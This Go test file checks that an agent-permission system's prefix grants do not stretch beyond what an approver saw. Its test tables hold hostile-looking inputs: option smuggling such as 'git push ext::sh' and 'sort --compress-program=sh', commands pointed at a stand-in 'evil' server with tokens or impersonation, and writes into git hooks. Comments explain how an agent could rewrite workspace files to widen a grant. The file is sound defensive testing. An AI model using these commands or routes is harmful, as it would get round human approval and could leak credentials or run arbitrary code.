package grants_test

import (
	"strings"
	"testing"

	"github.com/askops/askops/grants"
	"github.com/askops/askops/policy"
)

// A prefix grant on a command that runs code from the workspace grants
// anything: the agent rewrites package.json, the Makefile or a test, then
// runs the granted prefix.
func TestPrefixScopeRefusesWorkspaceCode(t *testing.T) {
	refused := []string{
		// package scripts and lifecycle hooks
		"npm test", "npm t", "npm run", "npm run build", "npm start", "npm exec", "npm install", "npm i", "npm ci",
		"npm version", "npm", "npm --silent test", "npx jest", "yarn", "yarn test", "yarn build", "pnpm test",
		"pnpm install", "bun test", "bun run", "bun install", "bunx vitest", "deno task", "deno run", "deno test",
		"deno lint",
		// language tools
		"go test", "go test ./...", "go run .", "go generate", "go tool", "go", "go -C sub test",
		"cargo build", "cargo test", "cargo run", "cargo check", "cargo clippy", "cargo bench", "cargo",
		"pip install", "pip install -e .", "pip3 install", "pip download", "uv run", "uv sync", "poetry run",
		"poetry install", "pipenv run", "pdm run", "hatch run", "python -m pytest", "python3 -m pip install",
		"composer install", "composer test", "dotnet test", "dotnet build", "dotnet run", "mix test",
		"swift build", "flutter test", "dart test", "stack test", "cabal build", "gem build",
		// build, task and test runners
		"make", "make test", "gmake all", "cmake --build build", "ctest", "ninja", "meson test", "bazel test",
		"gradle test", "gradlew build", "./gradlew test", "mvn test", "mvnw package", "ant", "sbt test",
		"rake", "rake test", "bundle exec rspec", "bundle install", "pytest", "pytest -x", "tox", "nox",
		"just", "just build", "task build", "jest", "vitest", "mocha", "rspec", "phpunit", "eslint .",
		"prettier --check .", "webpack", "vite build", "pre-commit run", "./build.sh", "scripts/test",
	}
	for _, p := range refused {
		_, err := grants.PrefixScope(p, "/ws")
		if err == nil {
			t.Errorf("PrefixScope(%q) accepted; it runs code from the workspace", p)
			continue
		}
		if grants.ErrorCode(err) != grants.CodeInvalid {
			t.Errorf("PrefixScope(%q): code %q, want invalid", p, grants.ErrorCode(err))
		}
		if !strings.Contains(err.Error(), "would let any code in the workspace run") {
			t.Errorf("PrefixScope(%q): %v, want it to say any code in the workspace would run", p, err)
		}
	}
	ok := []string{"go list", "go list ./...", "go version", "go list -m all", "git push", "git status", "ls"}
	for _, p := range ok {
		if _, err := grants.PrefixScope(p, "/ws"); err != nil {
			t.Errorf("PrefixScope(%q) refused: %v", p, err)
		}
	}
	// go build and go vet compile the workspace's code, whose #include
	// directives read any file: refused by the model.
	for _, p := range []string{"go build", "go build ./...", "go vet", "go vet ./..."} {
		if _, err := grants.PrefixScope(p, "/ws"); err == nil || !strings.Contains(err.Error(), "#include") {
			t.Errorf("PrefixScope(%q) = %v, want a refusal: compiling reads what the code includes", p, err)
		}
	}
	// Package managers' reading subcommands run no workspace code, but
	// askops has no model of their options: not grantable by prefix.
	for _, p := range []string{"npm ls", "npm view react", "yarn why lodash", "go mod tidy", "cargo tree", "pip list", "gem list"} {
		if _, err := grants.PrefixScope(p, "/ws"); err == nil || !strings.Contains(err.Error(), "no model") {
			t.Errorf("PrefixScope(%q) = %v, want a refusal: askops has no model of it", p, err)
		}
	}
	// Exact-command grants stay possible: the approver saw that command.
	for _, cmd := range []string{"npm test", "go test ./...", "make", "cargo build"} {
		if _, err := grants.ScopeFor(bashCall(cmd, "/ws")); err != nil {
			t.Errorf("ScopeFor(%q) refused: %v", cmd, err)
		}
	}
}

// A prefix grant recorded before the refusal (or written to the store by
// hand) covers nothing.
func TestStoredWorkspaceRunnerPrefixCoversNothing(t *testing.T) {
	for _, p := range []string{"npm test", "go test", "make", "cargo build"} {
		s := grants.Scope{Tool: "bash", Kind: grants.KindPrefix, Command: p, Cwd: "/ws"}
		if s.Covers(bashCall(p+" ./x", "/ws")) || s.Covers(bashCall(p, "/ws")) {
			t.Errorf("a stored prefix grant %q covers calls", p)
		}
	}
}

// A prefix grant never covers a command that runs another program through
// an option (any abbreviation the policy reads) or pushes anywhere but a
// configured remote on another machine: the approver granted "git push",
// not out/r/hooks/pre-receive, nor a push to any URL.
func TestPrefixGrantDoesNotCoverCodeOptions(t *testing.T) {
	repo := gitWorkspace(t, []string{"origin=https://github.com/acme/app.git"})
	for _, tc := range []struct{ prefix, cmd string }{
		{"sort", "sort --compress-program=sh x"},
		{"sort", "sort --comp=out/h x"},
		{"sort", "sort --compress-prog out/h x"},
		{"git push", "git push --rec=out/h origin"},
		{"git push", "git push --receive=out/h origin"},
		{"git push", "git push --exe=out/h origin"},
		{"git push", "git push out/r HEAD"},
		{"git push", "git push ./r HEAD"},
		{"git push", "git push /tmp/r HEAD"},
		{"git push", "git push file:///tmp/r HEAD"},
		{"git push", "git push --repo=out/r"},
		{"git push", "git push ext::sh"},
		{"git push", "git push fd::3"},
		{"git push", "git push https://github.com/acme/app feature"},
		{"git push", "git push git@github.com:acme/app.git feature"},
	} {
		s, err := grants.PrefixScope(tc.prefix, repo)
		if err != nil {
			t.Fatalf("PrefixScope(%q): %v", tc.prefix, err)
		}
		if s.Covers(policy.Call{Tool: "bash", Command: tc.cmd, Cwd: repo, Workspace: repo}) {
			t.Errorf("a prefix grant on %q covers %q", tc.prefix, tc.cmd)
		}
	}
	for _, tc := range []struct{ prefix, cmd string }{
		{"sort", "sort -u x"},
		{"git push", "git push origin feature"},
	} {
		s, _ := grants.PrefixScope(tc.prefix, repo)
		if !s.Covers(policy.Call{Tool: "bash", Command: tc.cmd, Cwd: repo, Workspace: repo}) {
			t.Errorf("a prefix grant on %q does not cover %q", tc.prefix, tc.cmd)
		}
	}
}

// A prefix grant covers the words an approver saw and operands or plain
// options after them, never added options that point the program at
// another server, cluster, context or identity, or make it write a file:
// "kubectl get" is not "kubectl get --server=https://evil --token=…".
func TestPrefixGrantDoesNotCoverTargetOptions(t *testing.T) {
	for _, tc := range []struct{ prefix, cmd string }{
		{"kubectl get", "kubectl get pods --server=https://evil --insecure-skip-tls-verify"},
		{"kubectl get", "kubectl get pods --server https://evil"},
		{"kubectl get", "kubectl get pods -s https://evil"},
		{"kubectl get", "kubectl get pods -shttps://evil"},
		{"kubectl get", "kubectl get pods -s=https://evil"},
		{"kubectl get", "kubectl get secrets --as=system:admin"},
		{"kubectl get", "kubectl get secrets --as system:admin"},
		{"kubectl get", "kubectl get secrets --as-group=system:masters"},
		{"kubectl get", "kubectl get secrets --as-uid=0"},
		{"kubectl get", "kubectl get pods --token=eyJhbGciOi"},
		{"kubectl get", "kubectl get pods --kubeconfig=/tmp/evil"},
		{"kubectl get", "kubectl get pods --log-file=/etc/x"},
		{"kubectl get", "kubectl get pods --log-dir=/etc"},
		{"kubectl get", "kubectl get pods --context=prod"},
		{"kubectl get", "kubectl get pods --cluster=prod"},
		{"kubectl get", "kubectl get pods --user=admin"},
		{"kubectl get", "kubectl get pods --insecure-skip-tls-verify"},
		{"kubectl get", "kubectl get pods --certificate-authority=/tmp/ca"},
		{"kubectl get", "kubectl get pods --client-key=/tmp/k"},
		{"kubectl get", "kubectl get pods --cache-dir=/tmp/c"},
		{"kubectl get", "kubectl get pods --username=admin --password=x"},
		{"kubectl get", "kubectl get pods --tls-server-name=evil"},
		{"kubectl get pods", "kubectl get pods --serv=https://evil"},
		{"kubectl describe", "kubectl describe pod x --as=admin"},
		{"oc get", "oc get pods --server=https://evil"},
		{"docker ps", "docker ps -H tcp://evil:2375"},
		{"docker ps", "docker ps --host=tcp://evil:2375"},
		{"docker ps", "docker ps --context=prod"},
		{"docker logs", "docker logs web -c prod"},
		{"docker images", "docker images --config=/tmp/d"},
		{"gh pr view", "gh pr view 1 -R other/repo"},
		{"gh pr view", "gh pr view 1 --repo=other/repo"},
		{"gh pr list", "gh pr list --hostname=evil.example"},
		{"gh issue list", "gh issue list -Rother/repo"},
		{"git log", "git log --output=.git/hooks/pre-commit"},
		{"git diff", "git diff --output /tmp/x"},
		{"git log", "git log --git-dir=/tmp/r"},
		{"ls", "ls --server=x"},
	} {
		s, err := grants.PrefixScope(tc.prefix, "/ws")
		if err != nil {
			t.Fatalf("PrefixScope(%q): %v", tc.prefix, err)
		}
		if s.Covers(bashCall(tc.cmd, "/ws")) {
			t.Errorf("a prefix grant on %q covers %q", tc.prefix, tc.cmd)
		}
	}
	for _, tc := range []struct{ prefix, cmd string }{
		{"kubectl get", "kubectl get pods"},
		{"kubectl get", "kubectl get pods -n kube-system -o wide"},
		{"kubectl get", "kubectl get pods -l app=web --show-labels"},
		{"kubectl get", "kubectl get pods -A -w"},
		{"kubectl get", "kubectl get deploy web -o yaml"},
		{"docker ps", "docker ps -a --format '{{.Names}}'"},
		{"docker logs", "docker logs --tail 10 -f web"},
		{"gh pr view", "gh pr view 1 --json title"},
		{"git log", "git log --oneline -n 5"},
		{"git log", "git log -c --stat"},
		{"grep", "grep --context=3 x file"},
		{"ls", "ls -la src"},
	} {
		s, _ := grants.PrefixScope(tc.prefix, "/ws")
		if !s.Covers(bashCall(tc.cmd, "/ws")) {
			t.Errorf("a prefix grant on %q does not cover %q", tc.prefix, tc.cmd)
		}
	}
}
